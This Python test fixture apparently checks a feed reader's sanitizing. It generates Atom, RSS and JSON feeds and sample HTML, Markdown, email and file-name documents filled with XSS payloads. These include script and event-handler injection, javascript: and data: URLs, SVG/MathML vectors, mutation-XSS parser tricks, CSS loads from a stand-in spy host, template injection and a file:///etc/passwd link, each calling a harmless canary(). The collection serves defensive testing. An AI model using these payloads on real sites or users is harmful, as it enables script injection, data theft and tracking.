"""What tries to run in a reader's browser: each calls ``canary()`` if it comes through.

Kinds, not a list of all there is: markup that runs by itself, addresses that run when
followed, foreign content (SVG, MathML), styles, markup that a second parser reads
otherwise than the first (mutation XSS), and text that pretends to be other text.
"""

import json
from collections.abc import Sequence
from datetime import datetime, timedelta
from email.utils import format_datetime
from xml.sax.saxutils import escape, quoteattr

RUN = "canary(1)"
SPY = "http://spy.invalid"
WHO = "hostile"
"""The name of each subscription begins so."""

BY_ITSELF = (
    f"<script>{RUN}</script>",
    f"<script src={SPY}/a.js></script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror\n=\n'{RUN}'>",
    f"<img/src='x'/onerror={RUN}//",
    f"<img src=`x` onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<p tabindex=1 autofocus onfocus={RUN}>focus</p>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<marquee onstart={RUN}>turn</marquee>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='{SPY}/'>",
    f"<link rel=stylesheet href={SPY}/a.css>",
    f"<link rel=prefetch href={SPY}/b>",
    f"<form action='javascript:{RUN}'><button autofocus>go</button></form>",
    f"<dialog open onfocus={RUN}><input autofocus></dialog>",
    f"<p popover id=n onbeforetoggle={RUN}>over</p>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
)
FOLLOWED = (
    f"<a href='javascript:{RUN}'>a</a>",
    f"<a href=' &#14; javascript:{RUN}'>b</a>",
    f"<a href='java&#9;script:{RUN}'>c</a>",
    f"<a href='java\nscript:{RUN}'>d</a>",
    f"<a href='&#x6A;avascript&colon;{RUN}'>e</a>",
    f"<a href='JaVaScRiPt:{RUN}'>f</a>",
    f"<a href='vbscript:{RUN}'>g</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>h</a>",
    f"<a href='//javascript:{RUN}'>i</a>",
    f"<a href=x onclick={RUN} onmouseover={RUN}>j</a>",
    f"<a href=x ping={SPY}/ping>k</a>",
    f"<area href='javascript:{RUN}'><map name=m></map>",
    f"<blockquote cite='javascript:{RUN}'>l</blockquote>",
)
FOREIGN = (
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'></script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>m</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a><set attributeName=href to='javascript:{RUN}'/><text>n</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math href='javascript:{RUN}'>o</math>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>p</math>",
    f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"'
    f' onload="{RUN}"/>\'>',
)
STYLES = (
    f"<style>@import '{SPY}/a.css';</style>",
    f"<style>body{{background:url({SPY}/b)}} main{{display:none}}</style>",
    f"<p style='background:url({SPY}/c)'>q</p>",
    "<p style='position:fixed;inset:0;background:red'>over all</p>",
    f"<p style='width:expression({RUN})'>r</p>",
    f"<style><img src=x onerror={RUN}></style>",
    f"<style>p{{x:'</style><img src=x onerror={RUN}>'}}</style>",
    f"<table background='{SPY}/d'><td background='{SPY}/e'>s</table>",
    "<p class=skip id=main>t</p>",
)
READ_OTHERWISE = (
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}>",
    f"<svg><desc><noembed><img src=x title='</noembed><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>--!>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?x ><img src=x onerror={RUN}>?>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"<p title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>u</p>",
    f"<a href='https://x.example/\"onmouseover=\"{RUN}'>v</a>",
    f"\x00<\x00script\x00>{RUN}</script>",
    f"\ufeff<\u200bscript>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    "<div>" * 400 + f"<img src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}{{% import os %}}${{{RUN}}}",
    f"'\"--></style></script><svg/onload={RUN}>",
    f"]]><script>{RUN}</script>",
)
PRETENDING = (
    "\u202egnp.exe\u202c turned \u2066\u2067\u2068 about",
    "\u202e" * 50 + "never closed",
    "Z" + "\u0335\u0489\u0361" * 200,
    "unbreakable" * 400,
    "عنوان طويل جدا " * 60,
    "\U000e0041\U000e0042 tags \ufe0f\ufe0f\ufe0f",
)
ATTACKS = (*BY_ITSELF, *FOLLOWED, *FOREIGN, *STYLES, *READ_OTHERWISE, *PRETENDING)

LINKS = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://x.example/"><script>{RUN}</script>',
    f"https://x.example/' onclick='{RUN}",
    f"jAvascript&colon;{RUN}",
    "file:///etc/passwd",
)


def written(now: datetime) -> dict[str, str]:
    """A feed of each format, by the name of its subscription."""
    return {
        f"{WHO}-atom": atom(now),
        f"{WHO}-rss": rss(now),
        f"{WHO}-json": jsonfeed(now),
    }


def documents() -> dict[str, str]:
    """Documents of a folder, by their names."""
    all_ = "\n\n".join(_clean(code) for code in (*BY_ITSELF, *FOLLOWED, *FOREIGN))
    return {
        "page.html": f"<title>Letter {BY_ITSELF[4]}</title><h1>Letter</h1>"
        f"<article><p>{words(900)}.</p>{all_}<p>{words(901)}.</p></article>",
        "note.md": f"# Note {BY_ITSELF[4]}\n\n{words(902)}.\n\n{all_}\n\n"
        f"[here](javascript:{RUN}) <javascript:{RUN}> ![x](javascript:{RUN})\n",
        "letter.eml": f"From: {BY_ITSELF[4]} <m@mallory.example>\nSubject: Mail "
        f"{BY_ITSELF[0]}\nContent-Type: text/html\n\n<p>{words(903)}.</p>{all_}",
        "<img src=x onerror=canary(1)>.txt": f"Plain {BY_ITSELF[0]}\n\n{all_}\n",
    }


def words(number: int) -> str:
    """Words of an article's own, so that no two are one story by what attacks share."""
    syllables = ("bal", "cor", "dun", "fer", "gol", "hum", "jin", "kal", "lom", "mur")
    digits = [int(digit) for digit in f"{number * 7919 + 1003:05}"]
    named = [
        "".join(syllables[(digit * step + 3 * step) % 10] for digit in digits)
        for step in (1, 3, 7, 9)
    ]
    return " ".join(named)


def atom(now: datetime, attacks: Sequence[str] = ATTACKS) -> str:
    """An Atom feed with an attack in every place of each entry."""
    entries = "".join(_entry(n, code, now) for n, code in enumerate(attacks))
    evil = escape(_clean(BY_ITSELF[4]))
    return (
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:canary(2)">'
        f'<title type="html">Crooked &amp;amp; {escape(evil)}</title>'
        f'<subtitle type="html">{escape(evil)} {evil}</subtitle>'
        f"<id>tag:crooked.example,2026:feed</id><logo>javascript:{RUN}</logo>"
        f'<icon>{SPY}/icon.png</icon><link href="javascript:{RUN}"/>'
        f"<author><name>{evil}</name><uri>javascript:{RUN}</uri></author>"
        f"<updated>{now.isoformat()}</updated>{entries}</feed>"
    )


def _entry(number: int, code: str, now: datetime) -> str:
    evil, own = escape(_clean(code)), words(number)
    link = quoteattr(LINKS[number % len(LINKS)] if number % 3 == 0 else _link(number))
    return (
        f"<entry><id>tag:crooked.example,2026:{number}</id>"
        f'<title type="html">{own} {evil}</title><link href={link}/>'
        f'<link rel="enclosure" href={quoteattr(LINKS[number % len(LINKS)])}'
        f' type="text/html&quot; onclick=&quot;{RUN}"/>'
        f"<author><name>{evil}</name><email>{evil}</email></author>"
        f'<category term="{evil.replace(chr(34), "&quot;")}"/>'
        f"<updated>{(now - timedelta(hours=2 * number)).isoformat()}</updated>"
        f'<summary type="html">{own} {evil}</summary>'
        f'<content type="html" xml:lang="en&quot; onclick=&quot;{RUN}">'
        f"&lt;p&gt;{own}.&lt;/p&gt;{evil}&lt;p&gt;{own}.&lt;/p&gt;</content></entry>"
    )


def rss(now: datetime, attacks: Sequence[str] = ATTACKS) -> str:
    """The same in RSS, where nobody says what is HTML; by another outlet."""
    items = "".join(
        f"<item><title>{words(n)} {escape(_clean(code))}</title>"
        f"<link>{escape(_link(n))}?rss</link><guid>{escape(LINKS[n % len(LINKS)])}{n}"
        f"</guid><author>{escape(_clean(code))}</author>"
        f"<pubDate>{format_datetime(now - timedelta(hours=2 * n))}</pubDate>"
        f"<category>{escape(_clean(code))}</category><description>{words(n)} "
        f"{escape(_clean(code))}</description></item>"
        for n, code in enumerate(attacks)
    )
    return (
        '<rss version="2.0"><channel><title>Mallory &lt;b onclick=canary(1)&gt;Press'
        f"&lt;/b&gt;</title><link>https://mallory.example/</link>{items}</channel></rss>"
    )


def jsonfeed(now: datetime, attacks: Sequence[str] = ATTACKS) -> str:
    """The same as JSON Feed, where a title is text whatever it holds."""
    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": f"<script>{RUN}</script>",
            "home_page_url": f"javascript:{RUN}",
            "icon": f"{SPY}/icon.svg",
            "items": [
                {
                    "id": f"{LINKS[n % len(LINKS)]}#{n}",
                    "url": f"{_link(n)}?json",
                    "title": f"{words(n)} {code}",
                    "content_html": f"<p>{words(n)}</p>{code}",
                    "summary": f"{words(n)} {code}",
                    "image": LINKS[n % len(LINKS)],
                    "authors": [{"name": code, "url": LINKS[n % len(LINKS)]}],
                    "tags": [code],
                    "date_published": (now - timedelta(hours=2 * n)).isoformat(),
                }
                for n, code in enumerate(attacks)
            ],
        }
    )


def _link(number: int) -> str:
    return f"https://crooked.example/{number}/<script>{RUN}</script>?a='b\"c"


def _clean(code: str) -> str:
    """Without what XML cannot carry: a feed with it is not read at all."""
    return code.replace("\x00", "")
